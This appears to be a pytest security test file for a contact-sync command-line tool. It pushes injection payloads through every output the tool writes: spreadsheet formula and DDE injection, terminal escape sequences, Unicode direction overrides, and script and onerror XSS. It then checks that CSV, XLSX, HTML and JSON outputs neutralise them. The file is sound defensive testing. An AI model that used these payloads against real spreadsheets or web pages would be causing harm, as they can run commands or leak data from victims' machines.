"""Hostile texts from a sheet and from the server, through every command that shows or writes them."""

import csv
import html.parser
import json
import re
import unicodedata
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import openpyxl
import pytest

from tests.cli.conftest import Desk, Ended, contact, small_book

MARK = "zzz"  # in each of them, so that they are found again
TEXTS = [
    f'=HYPERLINK("http://example.com/"&A1,"{MARK}")',
    f"+cmd|' /C calc'!{MARK}",
    f"-2+3+{MARK}",
    f"@SUM(1)*{MARK}",
    f"\t={MARK}",
    f"{MARK}\x1b[2J\x1b]0;title\x07",
    f"{MARK}\u202egnp.exe\u2066",
    f"{MARK}\x9b31m",
    f"<script>alert('{MARK}')</script><img src=x onerror=alert(1)>",
    f"{MARK}]]>&lt;\"'><!--",
    f"{MARK}\x00after",
    f"{MARK}\ufeff\u200b\u2028\u2029",
    f"{MARK}_x0041_\ufffe",
    MARK + "ğ" * 40_000,
    f"{{{{{MARK}}}}} %s {{0}} {{name}} ${{HOME}}",
]
# What steers a terminal, or the order in which its letters stand.
STEERING = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u200e\u200f\u202a-\u202e\u2066-\u2069\u2028\u2029]")


@pytest.fixture
def hostile_desk(desk_with: Callable[..., Desk]) -> Desk:
    """Every text in a row that is added, in one that is rejected, in a contact of the book, and in a group's name."""
    book: dict[str, Any] = small_book()
    for number, text in enumerate(TEXTS):
        gsm, email = f"+9050030000{number:02}", f"server{number}@example.com"
        book["contacts"].append(contact(300 + number, text[:500], text[:500], email, gsm, {"2": text[:500]}, [9]))
        book["groups"].append({"id": 50 + number, "name": text[:200], "parent": None})
    desk = desk_with(book)
    texts = [text.replace("\0", "") for text in TEXTS]  # a file with a NUL is refused as a whole
    rows = [[text, "Yeni", "", f"0500 400 00 {number:02}", "", "Bayiler"] for number, text in enumerate(texts)]
    rows += [["Kötü", text, "", f"12{number}", text, text] for number, text in enumerate(texts)]
    rows += [["Değişti", "Kişi", "", f"0500 300 00 {number:02}", "", ""] for number in range(len(TEXTS))]
    desk.sheet(rows)
    return desk


@pytest.fixture
def ended(hostile_desk: Desk) -> list[Ended]:
    """Everything that shows or writes them, as a person types it."""
    desk = hostile_desk
    words = ("sync", "sheet.csv", "-m", "mapping.yaml", "--yes", "--rate", "2000", "-v", "--allow", "max_edits")
    found = [desk.run("check", "sheet.csv", "-m", "mapping.yaml"), desk.run(*words, "--report-dir", "reports")]
    assert found[1].code == 3, found[1].err[-900:]
    run = next(iter((desk.folder / "state" / "runs").glob("*.run"))).stem
    found += [desk.run("why", run, str(row)) for row in range(2, 2 + 3 * len(TEXTS), 4)]
    found += [
        desk.run("plan", "sheet.csv", "-m", "mapping.yaml", "-o", "a.plan"),
        desk.run("runs", "show", run),
        desk.run("groups", "list"),
        desk.run("fields"),
        desk.run("reconcile", "sheet.csv", "-m", "mapping.yaml", "--report-dir", "both"),
        desk.run("export", "-o", "book.csv"),
        desk.run("export", "-o", "book.xlsx", "--force"),
        desk.run("init", "sheet.csv"),
    ]
    assert {each.code for each in found} <= {0, 3}, [each.err[-500:] for each in found if each.code not in (0, 3)]
    return found


def test_no_text_steers_the_terminal_or_runs_in_a_report(hostile_desk: Desk, ended: list[Ended]) -> None:
    shown = "".join(each.out + each.err for each in ended)
    folder = hostile_desk.folder

    assert shown.count(MARK) > len(TEXTS), "they are shown"
    assert STEERING.findall(shown) == []
    written = [path for where in ("reports", "both") for path in folder.glob(f"{where}/**/*") if path.is_file()]
    for path in [*written, folder / "book.csv", folder / "book.xlsx"]:
        _CHECKS[path.suffix](path)
    names = {path.name for path in folder.glob("reports/*")}
    assert {"report.csv", "report.json", "report.xlsx", "report.html"} <= names


def _check_csv(path: Path) -> None:
    text = path.read_text(encoding="utf-8-sig")
    with path.open(encoding="utf-8-sig", newline="") as file:
        cells = [cell for row in csv.reader(file, delimiter=";") for cell in row]
    assert path.name not in ("report.csv", "book.csv") or any(MARK in cell for cell in cells), path
    if path.name.startswith(("report", "book")):  # rejected rows are the person's own file, cell by cell
        assert not [cell for cell in cells if re.match(r"\s*[=@]|\s*[+-](?![\d\s().-]+$)|[\t\r]", cell)]
    if path.name.startswith("report"):
        assert not {letter for letter in text if unicodedata.category(letter) == "Cc"} - {"\r", "\n", "\t"}


def _check_xlsx(path: Path) -> None:
    with zipfile.ZipFile(path) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    book = openpyxl.load_workbook(path)
    kinds = {cell.data_type for sheet in book for row in sheet.iter_rows() for cell in row}
    longest = max(len(str(cell.value or "")) for sheet in book for row in sheet.iter_rows() for cell in row)
    assert "e" not in kinds
    assert longest <= 32_767
    for sheet in book:
        for row in sheet.iter_rows():
            assert not [cell.value for cell in row if cell.data_type == "f" and MARK in str(cell.value)]
    assert not [name for name in parts if "externalLink" in name or "vba" in name.lower()]
    assert not [name for name, part in parts.items() if name.endswith(".rels") and b"example.com/" in part]


class _Page(html.parser.HTMLParser):
    """Notes what a browser would run."""

    def __init__(self) -> None:
        super().__init__()
        self.wrong: list[str] = []
        self.script: str | None = None

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.script = "" if tag == "script" else None
        self.wrong += [f"{tag} {name}" for name, _ in attrs if name.startswith("on")]
        self.wrong += [
            f"{tag} {name}={value}" for name, value in attrs if name in ("src", "href") and MARK in str(value)
        ]

    def handle_data(self, data: str) -> None:
        if self.script is not None and "alert('zzz')" in data and "<" in data:
            self.wrong.append("a text of a cell in a script that could end it")
        self.script = None


def _check_html(path: Path) -> None:
    text = path.read_text(encoding="utf-8")
    page = _Page()
    page.feed(text)
    assert page.wrong == []
    assert f"<script>alert('{MARK}')" not in text
    assert "<img src=x" not in text
    assert path.name != "report.html" or MARK in text


def _check_json(path: Path) -> None:
    data = json.loads(path.read_text(encoding="utf-8"))
    assert path.name != "report.json" or MARK in json.dumps(data)


def _check_record(path: Path) -> None:
    names = [line.partition("  ")[2] for line in path.read_text(encoding="utf-8").splitlines()]
    assert names, "it says which files imsync has written"
    assert MARK not in "".join(names)


_CHECKS: dict[str, Callable[[Path], None]] = {
    ".sha256": _check_record,
    ".csv": _check_csv,
    ".xlsx": _check_xlsx,
    ".html": _check_html,
    ".json": _check_json,
}
